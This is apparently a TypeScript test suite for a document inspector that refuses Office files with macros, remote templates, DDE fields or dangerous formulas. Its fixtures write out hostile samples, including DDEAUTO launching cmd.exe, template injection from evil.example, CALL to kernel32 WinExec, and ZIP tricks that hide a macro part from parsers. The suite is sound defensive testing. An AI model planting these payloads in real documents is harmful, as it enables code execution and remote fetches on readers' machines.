import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { office, relationships, zip } from '../../testing/zip';
import { inspectFile } from '../inspect-file';

const folder = mkdtempSync(join(tmpdir(), 'lisle-harrow-kinds-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function inspect(content: string | Buffer) {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  writeFileSync(join(folder, 'file'), bytes);
  return inspectFile(join(folder, 'file'));
}
const kindOf = async (content: string | Buffer) => {
  const found = await inspect(content);
  return found?.refused === undefined ? found?.kind : 'refused';
};
const refusalOf = async (content: string | Buffer) => (await inspect(content))?.refused;

const OFFICE = 'application/vnd.openxmlformats-officedocument.';
const WORD = `${OFFICE}wordprocessingml.document`;
const EXCEL = `${OFFICE}spreadsheetml.sheet`;

test.each([
  [office(`${WORD}.main+xml`), WORD],
  [office(`${EXCEL}.main+xml`), EXCEL],
  [office(`${OFFICE}presentationml.presentation.main+xml`), undefined],
  [zip({ 'a.txt': 'x' }), undefined],
])('an archive is %#: a document, a workbook or neither [D24]', async (content, kind) => {
  expect(await kindOf(content)).toBe(kind);
});

const MAIN = `${WORD}.main+xml`;

test('a document is known by its list of contents wherever that is, even after 5 MB [D24]', async () => {
  const archive = office(MAIN, { 'word/media/image.jpeg': randomBytes(5_000_000) });
  expect(archive.length).toBeGreaterThan(4_000_000);
  expect(await kindOf(archive)).toBe(WORD);
  expect(await kindOf(Buffer.concat([archive.subarray(0, -2), Buffer.from('\u0005\0hello')]))).toBe(WORD);
});

test('a document whose parts are not compressed is read in no time [D24]', async () => {
  const text = `<w>${'<w:p/>'.repeat(40_000)}</w>`;
  expect(await inspect(office(MAIN, { 'main.xml': text }, { stored: true }))).toEqual({
    kind: WORD,
    marks: [],
  });
});

const types = (...overrides: string[]) => ({ '[Content_Types].xml': `<Types>${overrides.join('')}</Types>` });
const override = (type: string, part = '/main.xml') => `<Override PartName="${part}" ContentType="${type}"/>`;
const related = (type: string, rest: string) => ({ 'word/_rels/main.xml.rels': relationships([type, rest]) });

const EXTERNAL = 'TargetMode="External"';

describe('a document with macros is refused', () => {
  test.each([
    [
      'by the type of a part',
      { ...types(override(MAIN), override('application/vnd.ms-office.vbaProject', '/v')), v: 'x' },
    ],
    ['by the name of a part', { 'word/vbaProject.bin': 'x' }],
    ['by a name in a folder of any casing', { 'Word/VBAProject.BIN': 'x' }],
    [
      'by a type written in entities',
      { ...types(override(MAIN), override('macro&#69;nabled', '/v')), v: 'x' },
    ],
    ['by a relationship', related('vbaProject', 'Target="innocent.bin"')],
    [
      'by an old macro sheet',
      { ...types(override(MAIN), override('application/vnd.ms-excel.macrosheet+xml', '/v')), v: 'x' },
    ],
    [
      'by the type of its main part',
      types(override('application/vnd.ms-word.document.macroEnabled.main+xml')),
    ],
  ])('%s [D24]', async (_what, parts) => {
    expect(await refusalOf(office(MAIN, parts))).toMatch(/^This file contains macros/);
  });

  test('but one that only declares a type for them is taken [D24]', async () => {
    const declared =
      '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>';
    expect(
      await kindOf(office(MAIN, types(override(MAIN), declared, override('macroEnabled', '/none')))),
    ).toBe(WORD);
  });
});

describe('a document that loads something is refused', () => {
  test.each([
    [
      'a template of a website',
      'a template',
      related('attachedTemplate', `Target="https://evil.example/t.dotm" ${EXTERNAL}`),
    ],
    [
      'a template of a file server',
      'a template',
      related('attachedTemplate', `Target="\\\\evil\\t.dotm" ${EXTERNAL}`),
    ],
    [
      'one by its address',
      'a template',
      related('attachedTemplate', `Target="file://evil/t.dotm" ${EXTERNAL}`),
    ],
    [
      'one by four slashes',
      'a template',
      related('attachedTemplate', `Target="file:////evil/t.dotm" ${EXTERNAL}`),
    ],
    [
      'one in codes',
      'a template',
      related('attachedTemplate', `Target="file:///%5C%5Cevil%5Ct.dotm" ${EXTERNAL}`),
    ],
    ['one without a mode', 'a template', related('attachedTemplate', 'Target="\\\\evil\\t.dotm"')],
    ['one behind a space', 'a template', related('attachedTemplate', `Target=" http://evil/t" ${EXTERNAL}`)],
    ['one behind a tab', 'a template', related('attachedTemplate', `Target="&#9;\\\\evil\\t" ${EXTERNAL}`)],
    ['one cut by a line', 'a template', related('attachedTemplate', `Target="ht&#10;tp://a/t" ${EXTERNAL}`)],
    ['one behind a code', 'a template', related('attachedTemplate', `Target="%20http://a/t" ${EXTERNAL}`)],
    ['one of a device', 'a template', related('attachedTemplate', `Target="\\??\\UNC\\a\\t" ${EXTERNAL}`)],
    ['a picture behind a space', 'a picture', related('image', 'Target=" http://evil/p"')],
    ['a mode in spaces', 'a picture', related('image', 'Target="x" TargetMode=" external "')],
    [
      'the addresses of a mail merge',
      'data',
      { 'main.xml': '<w><w:mailMerge><w:connectString w:val="Data Source=evil"/></w:mailMerge></w>' },
    ],
    [
      'a picture that is called a link',
      'content',
      {
        '_rels/main.xml.rels': relationships(['hyperlink', `Target="https://evil.example/p" ${EXTERNAL}`]),
        'main.xml': '<w><a:blip r:link="r0"/></w>',
      },
    ],
    [
      'a picture of an old drawing behind a space',
      'a picture',
      { 'main.xml': '<w xmlns:v="v"><v:imagedata src=" https://evil.example/p"/></w>' },
    ],
    ['a picture', 'a picture', related('image', `Target="https://evil.example/p.png" ${EXTERNAL}`)],
    ['a mode in entities', 'a picture', related('image', 'Target="x" TargetMode="&#69;xternal"')],
    ['an object', 'content', related('oleObject', `Target="https://evil.example/o" ${EXTERNAL}`)],
    [
      'a relationship that nobody knows',
      'content',
      related('later', `Target="https://evil.example/o" ${EXTERNAL}`),
    ],
    [
      'a picture of an old drawing',
      'a picture',
      { 'main.xml': '<w xmlns:v="v"><v:imagedata src="https://evil.example/p"/></w>' },
    ],
    [
      'a picture by a field',
      'a picture',
      {
        'main.xml':
          '<w xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/p&quot;"/></w>',
      },
    ],
    ...[
      '\\d &quot;https://evil.example/p&quot;',
      '\\* MERGEFORMAT https://evil.example/p',
      '\\c &quot;gif&quot; &quot;\\\\evil\\p&quot;',
      '&quot; https://evil.example/p&quot;',
      '“https://evil.example/p”',
    ].map((rest): [string, string, Record<string, string>] => [
      `a picture by a field with ${rest}`,
      'a picture',
      { 'main.xml': `<w xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE ${rest}"/></w>` },
    ]),
    [
      'text by a field',
      'content by the field INCLUDETEXT',
      { 'main.xml': '<w xmlns:w="w"><w:fldSimple w:instr="INCLUDETEXT C:\\a.docx"/></w>' },
    ],
  ])('%s [D24]', async (_what, loaded, parts) => {
    expect(await refusalOf(office(MAIN, parts))).toMatch(
      new RegExp(`^This file loads ${loaded} from elsewhere`),
    );
  });

  test.each([
    [
      'a template on a drive',
      related('attachedTemplate', `Target="file:///C:\\Users\\a\\Normal.dotm" ${EXTERNAL}`),
    ],
    ['a template on a Mac', related('attachedTemplate', `Target="file:///Users/a/Normal.dotm" ${EXTERNAL}`)],
    ['a template without a folder', related('attachedTemplate', `Target="Normal.dotm" ${EXTERNAL}`)],
    [
      'a picture that Word itself put there',
      { 'main.xml': '<w xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE &quot;cid:p&quot;"/></w>' },
    ],
    [
      'a picture of a drive, with switches',
      {
        'main.xml':
          '<w xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE \\d &quot;C:\\\\My files\\\\p.png&quot; \\* MERGEFORMAT"/></w>',
      },
    ],
    [
      'a picture that is a link',
      {
        '_rels/main.xml.rels': relationships(['hyperlink', `Target="https://example.com" ${EXTERNAL}`]),
        'main.xml': '<w><a:hlinkClick r:id="r0"/><a:blip r:embed="r1"/></w>',
      },
    ],
  ])('but one with %s is taken [D24]', async (_what, parts) => {
    expect(await inspect(office(MAIN, parts))).toEqual({ kind: WORD, marks: [] });
  });

  test.each([
    'https://example.com/a?b&amp;c',
    'mailto:jane@example.com',
    'www.example.com',
    'file://server/x',
    '\\\\server\\x',
  ])('but one with a link to %s is taken [D24]', async (target) => {
    const linking = office(MAIN, related('hyperlink', `Target="${target}" ${EXTERNAL}`));
    expect(await inspect(linking)).toEqual({ kind: WORD, marks: [] });
  });
});

describe('a document whose fields start programs by DDE is refused', () => {
  const run = (content: string) => `<w:r>${content}</w:r>`;
  const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
  const told = (words: string) => run(`<w:instrText xml:space="preserve">${words}</w:instrText>`);
  const field = (...pieces: string[]) =>
    `<w:document xmlns:w="w"><w:p>${mark('begin')}${pieces.join('')}${mark('separate')}<w:t>x</w:t>${mark('end')}</w:p></w:document>`;
  const HEADER = '/word/header.xml';
  const inHeader = {
    ...types(override(MAIN), override(`${OFFICE}wordprocessingml.header+xml`, HEADER)),
    [HEADER.slice(1)]: field(told('DDE cmd')),
  };
  const byDefault = {
    ...types(override(MAIN), `<Default Extension="hdr" ContentType="${OFFICE}wordprocessingml.header+xml"/>`),
    'word/one.hdr': field(told('DDE cmd')),
  };

  test.each([
    ['in one piece', { 'main.xml': field(told(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')) }],
    ['in lower case and quotes', { 'main.xml': field(told('"ddeauto" cmd')) }],
    ['cut into pieces', { 'main.xml': field(told('D'), told('DE'), told('<![CDATA[AU]]>&#84;O cmd')) }],
    ['without a result', { 'main.xml': `<w:p>${mark('begin')}${told('DDE cmd')}${mark('end')}</w:p>` }],
    ['in another', { 'main.xml': field(told('IF 1 = 1 '), field(told('DDEAUTO cmd'))) }],
    ['named by another', { 'main.xml': field(told(' '), field(told('QUOTE 68 68 69')), told(' cmd')) }],
    ['named by another in part', { 'main.xml': field(told(' D'), field(told('QUOTE DE')), told(' cmd')) }],
    [
      'in a header of another type',
      {
        ...types(override(MAIN), override('application/xml', '/h.xml')),
        '_rels/main.xml.rels': relationships(['header', 'Target="h.xml"']),
        'h.xml': field(told('DDE cmd')),
      },
    ],
    ['in a result', { 'main.xml': field(told('TOC'), mark('separate'), field(told('DDE cmd'))) }],
    ['in simple form', { 'main.xml': '<w:p xmlns:w="w"><w:fldSimple w:instr=" &#68;DE cmd"/></w:p>' }],
    ['deleted, but present', { 'main.xml': field(run('<w:delInstrText>DDE cmd</w:delInstrText>')) }],
    ['in a header', inHeader],
    ['in a part whose name says what it is', byDefault],
  ])('%s [D24]', async (_what, parts) => {
    expect(await refusalOf(office(MAIN, parts))).toMatch(/^This file contains a program.*: a DDE field/);
  });

  test('other fields are none of these [D24]', async () => {
    const link = told(' HYPERLINK "https://dde.example/ddeauto" ');
    const toc = field(told('TOC \\o '), mark('separate'), field(link), field(told('PAGEREF dde')));
    const harmless = office(MAIN, { 'main.xml': toc });
    expect(await inspect(harmless)).toEqual({ kind: WORD, marks: [] });
  });
});

describe('a workbook', () => {
  const BOOK = `${EXCEL}.main+xml`;
  const part = (name: string, content: string) => ({
    ...types(override(BOOK), override(`${OFFICE}spreadsheetml.${name}+xml`, '/x.xml')),
    'x.xml': content,
  });
  const sheet = (formula: string) => part('worksheet', `<worksheet><f>${formula}</f></worksheet>`);

  test.each([
    [
      'starts a program by DDE',
      'contains a program',
      part('externalLink', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    ],
    [
      'loads an object',
      'loads an object',
      part('externalLink', '<externalLink><oleLink progId="Word.Document"/></externalLink>'),
    ],
    [
      'fetches data when it is opened',
      'fetches data',
      part('connections', '<connections><connection refreshOnLoad="1"/></connections>'),
    ],
    [
      'fetches data every minute',
      'fetches data',
      part('connections', '<connections><connection interval="1"/></connections>'),
    ],
    ['fetches by a table', 'fetches data', part('queryTable', '<queryTable refreshOnLoad="true"/>')],
    [
      'fetches by a pivot table',
      'fetches data',
      part(
        'pivotCacheDefinition',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
      ),
    ],
    [
      'asks the web by a formula',
      'loads data by the function WEBSERVICE',
      sheet('1+_xlfn.WEBSERVICE ("https://x.example")'),
    ],
    [
      'runs a library by a formula',
      'loads data by the function CALL',
      sheet('CALL("kernel32","WinExec","JCJ",A1,0)'),
    ],
    [
      'passes a function that asks the web to another',
      'loads data by the function WEBSERVICE',
      sheet('_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)'),
    ],
    [
      'asks the web behind a column with a quotation mark in its name',
      'loads data by the function WEBSERVICE',
      sheet('T[a"b]&amp;WEBSERVICE("https://x.example")'),
    ],
    [
      'fetches by a pivot table from another workbook',
      'fetches data',
      part(
        'pivotCacheDefinition',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1" r:id="r0"/></cacheSource></pivotCacheDefinition>',
      ),
    ],
    [
      'fetches from another workbook without asking',
      'fetches data',
      {
        'main.xml': '<workbook><workbookPr updateLinks="always"/></workbook>',
        '_rels/main.xml.rels': relationships(['externalLink', 'Target="x.xml"']),
        'x.xml': '<externalLink/>',
      },
    ],
    ['calculates a text', 'contains the function EVALUATE', sheet('EVALUATE("WEB"&amp;"SERVICE(A1)")')],
    ['starts a program by the name of a workbook', 'contains a program', sheet("cmd|'/c calc'!A0")],
    [
      'asks the web in a sheet of another type',
      'loads data by the function WEBSERVICE',
      {
        ...types(override(BOOK), override('application/xml', '/s.xml')),
        '_rels/main.xml.rels': relationships(['worksheet', 'Target="s.xml"']),
        's.xml': '<worksheet><f>WEBSERVICE(A1)</f></worksheet>',
      },
    ],
    [
      'shows a picture of the web in a cell',
      'loads content',
      {
        ...types(override(BOOK), override('application/vnd.ms-excel.rdrichvaluewebimage+xml', '/x.xml')),
        '_rels/x.xml.rels': relationships(['hyperlink', `Target="https://x.example/p" ${EXTERNAL}`]),
        'x.xml': '<webImagesSrd><webImageSrd><address r:id="r0"/></webImageSrd></webImagesSrd>',
      },
    ],
    [
      'fetches when it is opened, said in spaces',
      'fetches data',
      part('queryTable', '<queryTable refreshOnLoad=" 1 "/>'),
    ],
    [
      'asks the web by a name',
      'loads data by the function IMAGE',
      { 'main.xml': '<workbook><definedName name="a">_xlfn.IMAGE(A1)</definedName></workbook>' },
    ],
  ])('that %s is refused [D24]', async (_what, reason, parts) => {
    expect(await refusalOf(office(BOOK, parts))).toMatch(new RegExp(`^This file ${reason}`));
  });

  test.each([
    [
      'Links to another workbook',
      {
        ...part('externalLink', '<externalLink/>'),
        'xl/_rels/workbook.xml.rels': relationships(['externalLink', 'Target="/x.xml"']),
        'xl/externalLinks/_rels/a.xml.rels': relationships([
          'externalLinkPath',
          `Target="https://x.example/b.xlsx" ${EXTERNAL}`,
        ]),
      },
    ],
    [
      'Contains a data connection',
      part('connections', '<connections><connection refreshOnLoad="0"/></connections>'),
    ],
    [
      'Contains an embedded document: sheet.xlsx',
      { ...related('package', 'Target="sheet.xlsx"'), 'word/sheet.xlsx': office(BOOK) },
    ],
  ])('is marked: %s [D24]', async (mark, parts) => {
    expect(await inspect(office(BOOK, parts))).toEqual({ kind: EXCEL, marks: [mark] });
  });

  test.each([
    ['WEBSERVICE as a text', sheet('LEN("WEBSERVICE(A1)")')],
    ['WEBSERVICE as the name of a sheet', sheet("'WEBSERVICE('!A1")],
    [
      'a pivot table of its own that is made anew',
      part(
        'pivotCacheDefinition',
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1" sheet="a"/></cacheSource></pivotCacheDefinition>',
      ),
    ],
    ['WEBSERVICE as the name of a column', sheet("T[WEBSERVICE(a'])]")],
    ['a name of its own that ends like a function', sheet('MY.IMAGE(A1)+RECALL(A1)')],
  ])('with %s is taken [D24]', async (_what, parts) => {
    expect(await inspect(office(BOOK, parts))).toEqual({ kind: EXCEL, marks: [] });
  });
});

describe('an embedded object is refused', () => {
  const embedded = (content: Buffer | string) => ({
    ...related('oleObject', 'Target="o.bin"'),
    'word/o.bin': content,
  });
  const macros = office('application/vnd.ms-excel.sheet.macroEnabled.main+xml');
  test.each([
    ['of an old format', 'an embedded object', embedded('\xd0\xcf')],
    ['that is an archive', 'an embedded object', embedded(zip({ 'a.exe': 'MZ' }))],
    ['with macros', 'macros', embedded(macros)],
    ['with controls', 'an ActiveX control', related('control', 'Target="o.bin"')],
  ])('%s [D24]', async (_what, what, parts) => {
    expect(await refusalOf(office(MAIN, parts))).toMatch(new RegExp(`^This file contains .*${what}`));
  });
});

test('a document that says it has more text than a person writes is too complex [D24]', async () => {
  const archive = office(MAIN);
  archive.writeUInt32LE(513 * 1024 * 1024, archive.lastIndexOf('main.xml') - 22);
  await expect(inspect(archive)).rejects.toThrow('The parts of this document are too long');
});

test('a document that needs a password is refused with that reason, and one of an old format is none [D24]', async () => {
  const compound = (entry: string) => {
    const bytes = Buffer.alloc(1_536);
    bytes.write('d0cf11e0a1b11ae1', 'hex');
    bytes.writeUInt16LE(9, 30);
    bytes.write(entry, 512, 'utf16le');
    bytes.writeUInt16LE(2 * entry.length + 2, 512 + 64);
    return bytes;
  };
  expect(await refusalOf(compound('EncryptedPackage'))).toMatch(/^A password is needed/);
  expect(await inspect(compound('WordDocument'))).toBeUndefined();
});

describe('a document in UTF-16, which some libraries write,', () => {
  const declared = (encoding: string, content: string) =>
    `<?xml version="1.0" encoding="${encoding}"?>${content}`;
  const little = (content: string) => Buffer.from(content, 'utf16le');
  const big = (content: string) => little(content).swap16();
  const contents = `<Types>${override(MAIN)}</Types>`;
  const field = '<w:p xmlns:w="w"><w:fldSimple w:instr="DDE cmd"/></w:p>';
  const forms = [
    ['with a byte order mark', (content: string) => little(`\ufeff${content}`)],
    ['in the other order of bytes', (content: string) => big(`\ufeff${declared('UTF-16', content)}`)],
    ['without a mark', (content: string) => little(declared('utf-16le', content))],
    ['without a mark, in the other order', (content: string) => big(declared('UTF-16BE', content))],
  ] as const;

  test.each(forms)('%s is taken [D24]', async (_what, encode) => {
    const document = { '[Content_Types].xml': encode(contents), 'main.xml': encode('<w>Zürich 😀</w>') };
    expect(await inspect(office(MAIN, document))).toEqual({ kind: WORD, marks: [] });
  });

  test.each(forms)('%s is judged like any other [D24]', async (_what, encode) => {
    expect(await refusalOf(office(MAIN, { 'main.xml': encode(field) }))).toMatch(/: a DDE field/);
  });

  test.each([
    ['says that it is in UTF-8', little(`\ufeff${declared('UTF-8', '<w/>')}`)],
    ['has half a character', Buffer.concat([little(`\ufeff<w>`), Buffer.from([0, 0xd8]), little('</w>')])],
  ])('is damaged if it %s [D24]', async (_what, part) => {
    expect(await refusalOf(office(MAIN, { 'main.xml': part }))).toMatch(/^This file is damaged/);
  });
});

describe('a document that Office could read differently is invalid', () => {
  test.each([
    [
      'with a document type',
      { '[Content_Types].xml': `<!DOCTYPE Types []><Types>${override(MAIN)}</Types>` },
    ],
    ['with an unknown entity', types(override('&m;'))],
    ['that is not well-formed', types(override(MAIN), '<b>')],
    [
      'in another encoding',
      {
        '[Content_Types].xml': `<?xml version="1.0" encoding="ISO-8859-1"?><Types>${override(MAIN)}</Types>`,
      },
    ],
    ['with two types for one part', types(override(MAIN), override(`${EXCEL}.main+xml`))],
    ['whose main part is another', types(override(MAIN, '/other.xml'))],
    ['with the type in a comment', types(`<!--${override(MAIN)}-->`)],
    ['with two parts of one name', { 'Main.XML': 'x' }],
    ['with a part in pieces', { 'a.xml/[0].piece': 'x' }],
  ])('%s [D24]', async (_what, parts) => {
    expect(await inspect(office(MAIN, parts))).toBeUndefined();
  });
});

test('a document with a part of two names is invalid: Office takes the first, and libraries the second [D24]', async () => {
  const real = 'word/vbaProject.bin';
  const archive = office(MAIN, { [real]: 'x' });
  const at = archive.lastIndexOf(real);
  const second = Buffer.from('word/harmless12.bin');
  const extra = Buffer.concat([Buffer.from('up\0\0\u0001\0\0\0\0'), second]);
  extra.writeUInt16LE(5 + second.length, 2);
  extra.writeUInt32LE(crc32(real), 5);
  const end = at + real.length;
  const made = Buffer.concat([archive.subarray(0, end), extra, archive.subarray(end)]);
  made.writeUInt16LE(extra.length, at - 46 + 30);
  const directory = made.lastIndexOf('PK\u0005\u0006');
  made.writeUInt32LE(made.readUInt32LE(directory + 12) + extra.length, directory + 12);
  expect(await inspect(made)).toBeUndefined();
});

describe('an archive', () => {
  const archive = office(MAIN, { 'a.xml': '<a/>' });
  const directoryAt = archive.indexOf('PK\u0001\u0002');
  const endAt = archive.lastIndexOf('PK\u0005\u0006');
  const [content, directory] = [archive.subarray(0, directoryAt), archive.subarray(directoryAt, endAt)];
  const lastEntry = directory.subarray(directory.lastIndexOf('PK\u0001\u0002'));
  interface Stated {
    readonly count?: number;
    readonly size?: number;
    readonly at?: number;
    readonly comment?: Buffer;
  }
  const end = ({
    count = 4,
    size = directory.length,
    at = directoryAt,
    comment = Buffer.alloc(0),
  }: Stated) => {
    const record = Buffer.from(archive.subarray(endAt));
    record.writeUInt16LE(count, 10);
    record.writeUInt32LE(size, 12);
    record.writeUInt32LE(at, 16);
    record.writeUInt16LE(comment.length, 20);
    return Buffer.concat([record, comment]);
  };
  /** The records of ZIP64, for an archive in which they stand at `position`. */
  const end64 = (position: number, at = directoryAt) => {
    const records = Buffer.alloc(76);
    records.write('PK\u0006\u0006', 0);
    records.writeBigUInt64LE(4n, 32);
    records.writeBigUInt64LE(BigInt(directory.length), 40);
    records.writeBigUInt64LE(BigInt(at), 48);
    records.write('PK\u0006\u0007', 56);
    records.writeBigUInt64LE(BigInt(position), 64);
    return records;
  };
  const MOST = { count: 0xffff, size: 0xffffffff, at: 0xffffffff };
  const twice = [content, directory, directory];
  const behind = endAt + directory.length;
  const sameEntry = Buffer.from(lastEntry);
  sameEntry.write('b.xml', 46);
  const renamed = Buffer.from(archive);
  renamed.write('b.xml', archive.indexOf('a.xml'));

  test.each([
    ['whose directory is also that of ZIP64', [content, directory, end64(endAt), end({})]],
    ['whose directory is only that of ZIP64', [content, directory, end64(endAt), end(MOST)]],
    ['with a comment', [content, directory, end({ comment: Buffer.from('Made by hand') })]],
    [
      'with sizes behind its last part',
      [content, Buffer.alloc(16), directory, end({ at: directoryAt + 16 })],
    ],
  ])('%s is taken [D24]', async (_what, pieces) => {
    expect(await kindOf(Buffer.concat(pieces))).toBe(WORD);
  });

  test.each([
    ['whose directory is elsewhere by its size than by its place', [...twice, end({})]],
    ['with an older directory', [...twice, end({ at: endAt })]],
    ['whose directory is elsewhere for ZIP64', [...twice, end64(behind), end({ at: endAt })]],
    ['whose directory is elsewhere without ZIP64', [...twice, end64(behind, endAt), end({})]],
    [
      'with a directory in its comment',
      [content, directory, end({ comment: Buffer.concat([directory, end({ at: endAt + 22 })]) })],
    ],
    ['with more entries than it says', [content, directory, end({ count: 3 })]],
    [
      'with a part that its directory does not name',
      [
        content,
        directory.subarray(0, -lastEntry.length),
        end({ count: 3, size: directory.length - lastEntry.length }),
      ],
    ],
    [
      'with two parts in one place',
      [content, directory, sameEntry, end({ count: 5, size: directory.length + sameEntry.length })],
    ],
    ['with a part that has another name beside its content', [renamed]],
  ])('%s is invalid, since programs find different parts in it [D24]', async (_what, pieces) => {
    expect(await inspect(Buffer.concat(pieces))).toBeUndefined();
  });
});

test('a truncated archive or one that points outside itself is never taken for another kind [D24]', async () => {
  const archive = office(`${WORD}.main+xml`);
  for (let length = 0; length < archive.length; length += 7)
    expect(await kindOf(archive.subarray(0, length))).toBe(length < 4 ? undefined : 'refused');
  for (let at = 4; at < archive.length; at++) {
    const broken = Buffer.from(archive);
    broken[at] = 0xff;
    expect(await kindOf(broken).catch((error: Error) => error.name)).not.toBe(EXCEL);
  }
});
